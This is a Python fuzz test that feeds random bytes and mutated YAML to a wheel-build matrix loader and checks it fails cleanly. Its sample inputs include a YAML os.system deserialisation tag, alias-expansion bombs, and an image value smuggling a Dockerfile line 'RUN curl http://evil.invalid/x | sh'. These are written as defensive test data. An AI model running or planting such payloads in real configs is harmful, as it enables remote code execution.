"""Fuzzing the matrix loader: any bytes, and any mutation of the fixture matrix, end in a Matrix
or one short ConfigError line, fast; never another exception. A matrix that loads also plans."""

from __future__ import annotations

import copy
import tempfile
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from fuzzing import budget, count
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from wheel_matrix.configuration import matrix_file
from wheel_matrix.errors import ConfigError
from wheel_matrix.plan import cells
from wheel_matrix.plan.decisions import decide

pytestmark = pytest.mark.fuzz

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "matrix-small.yaml"
TEXT = FIXTURE.read_text()
DATA: dict[str, Any] = yaml.safe_load(TEXT)
PROJECT = matrix_file.load_project()


def load_bytes(raw: bytes) -> str:
    """The property: a Matrix that plans, or a ConfigError of one short line, within a second.
    Returns which it was."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "matrix.yaml"
        path.write_bytes(raw)
        start = time.process_time()  # CPU time: a busy machine must not fail the test
        outcome = "loaded"
        try:
            matrix = matrix_file.load(path)
            for cell in cells(matrix):  # an include naming an unsupported cell fails here
                decide(cell, matrix.torch_index, matrix.test_arch)
        except ConfigError as err:
            message = str(err)
            assert "\n" not in message and len(message) < 600, message[:2000]
            outcome = "refused"
        assert time.process_time() - start < 1.0
        return outcome


# Pieces YAML reads specially, and values the checks care about.
TOKENS = st.sampled_from([
    "[", "]", "{", "}", ":", ": ", "- ", ",", "\n", "\n  ", "  ", "#", "&a ", "*a", "<<: ",
    "!!python/object:os.system ", "!!binary ", "!!int ", "? ", "|\n  ", ">\n  ", "'", '"',
    "---\n", "...\n", "%YAML 1.1\n", "test_arch", "axes", "torch", "cuda", "exclude", "include",
    "torch_index", "image", "arch_list", '"2.14"', '"13.0"', "9.0", "2.14", "1" * 5000,
    "0x" + "f" * 40, "2024-13-45", "1e999", ".nan", "~", "null", "true", "\t", "\x00", "\ufeff",
    "\u202e", "é", "nvidia/cuda:13.0.2\nRUN id", "{compute}", "{banana}",
])


@settings(max_examples=budget(300), deadline=timedelta(seconds=2),
          suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(
    st.binary(max_size=2000),
    st.text(max_size=2000).map(str.encode),
    st.lists(TOKENS, max_size=60).map(lambda parts: "".join(parts).encode("utf-8", "replace")),
))
@example(TEXT.replace('test_arch: "9.0"', 'test_arch: "9.0"\ntest_arch: "8.0"').encode())
@example(TEXT.replace('test_arch: "9.0"', "test_arch: " + "9" * 5000).encode())
@example(b"[" * 20000 + b"]" * 20000)
@example(TEXT.encode().replace(b"# A small", b"# A \xff small"))
@example(b"a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\ntest_arch: *b\n")
@example(TEXT.replace("image: nvidia/cuda:13.0.2-devel-rockylinux8",
                      'image: "nvidia/cuda:13.0.2\\nRUN curl http://evil.invalid/x | sh"').encode())
@example(TEXT.replace("{compute}", "{banana}").encode())
@example(TEXT.replace("arch: [x86_64]", "arch: []").encode())
@example(b"test_arch: !!python/object/apply:os.system ['id']\n")
@example(b"? [a, b]\n: 1\n")
def test_any_bytes(raw: bytes) -> None:
    count("matrix.yaml bytes", load_bytes(raw))


# --- structure mutations of the fixture matrix -----------------------------------------------

SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True), st.text(max_size=40),
    st.sampled_from(["2.14", "13.0", "9.0", "cpu", "x86_64", "2.14.1", "13.0.2", "3.12",
                     "2_28", "9.0;;", "sm_90", "{compute}", "https://x.org/{compute}",
                     "nvidia/cuda:13.0.2\nRUN id", "a" * 10_000]),
)
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=4),
                            st.dictionaries(st.text(max_size=10), inner, max_size=4)),
    max_leaves=12,
)


def paths(node: object, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += paths(value, (*prefix, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            found += paths(value, (*prefix, i))
    return found


@st.composite
def mutated(draw: st.DrawFn) -> object:
    data: Any = copy.deepcopy(DATA)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        every = paths(data)
        where = draw(st.sampled_from(every))
        if not where:
            data = draw(VALUES)
            continue
        parent = data
        for step in where[:-1]:
            parent = parent[step]
        action = draw(st.sampled_from(["replace", "delete", "add", "copy"]))
        last = where[-1]
        if action == "replace":
            parent[last] = draw(VALUES)
        elif action == "delete":
            del parent[last]
        elif action == "add" and isinstance(parent, dict):
            parent[draw(st.one_of(st.text(max_size=12), st.sampled_from(list(parent))))] = draw(
                VALUES
            )
        elif action == "add":
            parent.append(draw(VALUES))
        else:  # a value from elsewhere in the tree, in the wrong place
            source = draw(st.sampled_from(every))
            value: Any = data
            for step in source:
                value = value[step]
            parent[last] = copy.deepcopy(value)
    return data


def changed(edit: Any) -> object:
    data = copy.deepcopy(DATA)
    edit(data)
    return data


@settings(max_examples=budget(300), deadline=timedelta(seconds=2),
          suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
# Found by the long profile: an include whose torch supports none of the axes' Pythons.
@example(changed(lambda d: d["torch"]["2.14"].update(python=["12.6", "13.0"])))
@example(changed(lambda d: d["exclude"][0].update(torch="a" * 10_000)))
@example(changed(lambda d: d["axes"].update(compute=["cpu\n12.6"])))
def test_mutations_of_the_fixture(data: object) -> None:
    # Through the file, as users write it...
    count("matrix.yaml mutations", load_bytes(yaml.safe_dump(data, allow_unicode=True).encode()))
    # ... and straight into the parser, with whatever Python values there are.
    try:
        matrix_file.parse(data, FIXTURE, PROJECT)
    except ConfigError as err:
        assert "\n" not in str(err)
